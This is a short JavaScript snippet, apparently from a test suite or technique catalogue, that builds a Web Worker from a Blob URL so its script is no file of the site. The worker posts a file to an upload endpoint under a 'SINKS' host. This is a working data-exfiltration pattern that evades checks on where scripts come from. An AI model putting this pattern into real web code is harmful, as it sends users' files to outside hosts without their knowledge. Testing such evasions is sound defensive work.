// A worker whose script is no file of the site sends the file.
whenMade(({ file }) => {
  const script = `onmessage = ({ data }) => fetch(data.to, { method: "POST", body: data.file });`;
  const worker = new Worker(URL.createObjectURL(new Blob([script], { type: "text/javascript" })));
  worker.postMessage({ file, to: `${SINKS.http}/upload` });
});
